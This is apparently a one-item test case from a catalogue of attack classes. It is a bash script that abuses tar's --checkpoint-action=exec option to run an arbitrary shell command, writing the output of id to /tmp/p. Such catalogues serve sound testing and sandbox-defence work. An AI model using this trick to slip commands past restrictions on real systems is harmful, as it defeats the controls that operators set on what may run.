#!/usr/bin/env bash
# attack-class: 18
# title: tar --checkpoint-action=exec
# why: tar runs a command at each checkpoint

tar -cf /dev/null /workspace --checkpoint=1 --checkpoint-action=exec='sh -c "id > /tmp/p"'
